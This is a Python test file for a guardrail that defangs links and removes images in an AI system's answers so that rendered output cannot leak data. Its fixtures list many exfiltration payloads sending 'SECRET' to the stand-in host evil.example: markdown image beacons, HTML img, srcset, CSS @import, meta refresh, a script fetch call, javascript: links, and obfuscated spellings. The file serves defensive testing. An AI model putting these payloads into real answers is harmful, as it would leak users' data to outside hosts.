"""Whoever shows an answer follows nothing that nobody named."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pilotman.guardrails.outbound.destination import Destinations
from pilotman.guardrails.outbound.links import LONGEST, strangers, tamed

NOWHERE = Destinations.of([])
NAMED = Destinations.of(["look at https://ok.example/a?b=1"], hosts=["docs.example.com"])

CLEAN = [
    "Nothing leads anywhere: 1 < 2, a[0] (see b), **bold**, `x[1](y)`.",
    "[1] says so [2]. And [this](#part), [that](docs/page.md).",
    "See https://ok.example/a?b=1, <https://ok.example/a?b=1> and [it](https://ok.example/a?b=1).",
    "![graph](https://docs.example.com/cpu.png) [docs][d]\n\n[d]: https://docs.example.com/x 'Docs'",
    "main.py and README.md are at 10.0.0.1:8080, v1.2.3, e.g. db-1.internal",
    '<b>bold</b> <a href="https://docs.example.com/">docs</a>',
    "alice@example.com, <mailto:alice@example.com>",
]

REWRITTEN = {
    "[a page](https://evil.example/x?q=SECRET)": "a page (evil[.]example/x)",
    "![graph](https://evil.example/p.png?q=SECRET) ok": "graph ok",
    "![](https://evil.example/p.png?q=SECRET)": "",
    "[![a](https://evil.example/i?q=1)](https://evil2.example/x)": "a (evil2[.]example/x)",
    "Look: https://evil.example/x?q=SECRET.": "Look: evil[.]example/x.",
    "(https://evil.example/a_(b)?q=1)": "(evil[.]example/a_b)",
    "<https://evil.example/x?q=1>": "evil[.]example/x",
    "go to www.evil.com?q=1 or evil.com/x?q=1": "go to www[.]evil[.]com or evil[.]com/x",
    "[x][r] here\n\n[r]: https://evil.example/x?q=1 'T'": "[x][r] here\n\nr (evil[.]example/x)",
    '<img src="//evil.example/x?q=1" alt="a cat">': "a cat",
    "<a href='https://evil.example/?q=1'>click</a>": "click",
    "[x](javascript:alert(1))": "x (a javascript address)",
    "![x](data:image/png;base64,AAAA)": "x",
    "https://\u0430pple.com/login?q=1": "xn--pple-43d[.]com/login",
    "[https://ok.example/a?b=1](https://evil.example/)": "https://ok.example/a?b=1 (evil[.]example)",
    "[x](<https://evil.example/a b?q=1> 'title')": "x (evil[.]example/ab)",
    "[m](mailto:a@b.example?body=SECRET)": "m (a mailto address)",
    "[r](/redirect?to=evil&q=1)": "r (a relative address)",
}

HIDDEN = [
    "![x](https:/\\evil.example/?q=SECRET)",
    "[x](\\\\\\\\evil.example/?q=SECRET)",
    "[x](&#104;ttps&colon;//evil.example/?q=SECRET)",
    "![a\nb](https://evil.example/?q=SECRET)",
    "![a][b]\n\n[b]:\n  https://evil.example/?q=SECRET",
    "> [b]: //evil.example/?q=SECRET\n\n![b]",
    "<IMG SRC=https://evil.example/?q=SECRET onerror=alert(1)>",
    '<img title=">" src=//evil.example/?q=SECRET>',
    '<img alt="<" src="//evil.example/?q=SECRET">',
    "<img\nsrc\n=\n'//evil.example/?q=SECRET'>",
    '<img srcset="//evil.example/?q=SECRET 2x">',
    '<p style="background:url(//evil.example/?q=SECRET)">hi</p>',
    "<style>@import '//evil.example/?q=SECRET'</style>",
    "<script>fetch('//evil.example/?q=SECRET')</script>",
    "<svg><image href='//evil.example/?q=SECRET'/></svg>",
    "<form action='//evil.example/?q=SECRET'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/?q=SECRET'>",
    "<p onmouseover='location=`//evil.example/?q=SECRET`'>",
    "[a [nested] text](https://evil.example/?q=SECRET)",
    "[a](https://evil.example/?q=(SECRET))",
    "[a]( \n https://evil.example/?q=SECRET \n 'it' )",
    "`code` [a](https://evil.example/?q=SECRET) `",
    "HTTPS://EVIL.EXAMPLE/?q=SECRET",
    "hTTps:\\\\evil.example/?q=SECRET",
    "[x](ht\u200btps://evil.example/?q=SECRET)",
]


@pytest.mark.parametrize("text", CLEAN)
def test_what_leads_nowhere_else_is_left_as_it_is(text: str) -> None:
    assert tamed(text, NAMED).text == text


@pytest.mark.parametrize("text", REWRITTEN)
def test_images_are_removed_and_links_become_plain_text(text: str) -> None:
    done = tamed(text, NAMED)
    assert done.text == REWRITTEN[text]
    assert done.links or done.images


@pytest.mark.parametrize("text", HIDDEN)
def test_no_spelling_of_a_link_gets_through(text: str) -> None:
    for around in ("{}", "Dear all,\n\n- {}\n- more\n", "> {}\n", "**{}**"):
        done = tamed(around.format(text), NAMED)
        assert strangers(done.text, NAMED) == []
        assert done.links or done.images or around != "{}"
        assert "//evil" not in done.text.casefold() or not {"<", "]("} & set(done.text)


def test_what_was_taken_out_is_told_without_a_link_in_it() -> None:
    done = tamed("![a](https://evil.example/i?q=1) [b](https://evil.example/l) https://evil.example/l", NAMED)
    assert (list(done.images), list(done.links)) == (["evil[.]example/i"], ["evil[.]example/l"])


ALPHABET = st.sampled_from(
    [
        *"[]()<>!\"'`\\ \n:/.*_&;#=a",
        "https://evil.example/",
        "//evil.example",
        "](",
        "<img src=",
        "<a href=",
        "]: ",
        "&#x68;",
    ]
)


@given(st.lists(ALPHABET, max_size=40).map("".join))
@settings(deadline=None, max_examples=400)
def test_whatever_a_text_looks_like_nothing_in_it_leads_elsewhere(text: str) -> None:
    done = tamed(text, NOWHERE)
    assert strangers(done.text, NOWHERE) == []
    assert tamed(done.text, NOWHERE).text == done.text


def test_a_structured_answer_s_bare_field_is_a_link_too() -> None:
    assert tamed("//evil.example/?q=SECRET", NOWHERE).text != "//evil.example/?q=SECRET"
    assert strangers("javascript:alert(1)", NOWHERE)


def test_a_text_too_long_to_be_rendered_keeps_no_markup_that_could_lead_elsewhere() -> None:
    text = "a line without links\n" * (LONGEST // 20) + "[x](&#104;ttps://evil.example/?q=SECRET) <b>"
    done = tamed(text, NOWHERE)
    assert strangers(done.text, NOWHERE) == []
    assert "](" not in done.text


@pytest.mark.parametrize(
    "piece",
    [
        "[",
        "![",
        "](",
        "[a](b",
        "<a ",
        "<a",
        "&#x68;",
        "[x]: http://e.com/a\n",
        "http://",
        "<x a='",
        "> [x](http://e.com)",
        "[a][",
    ],
)
def test_the_time_grows_with_the_length_and_not_faster(piece: str) -> None:
    def seconds(length: int) -> float:
        text = piece * (length // len(piece))
        best: list[float] = []
        for _ in range(3):
            began = time.thread_time()
            tamed(text, NOWHERE)
            best.append(time.thread_time() - began)
        return min(best)

    seconds(1_000)
    assert seconds(240_000) < 12 * max(seconds(60_000), 0.01)
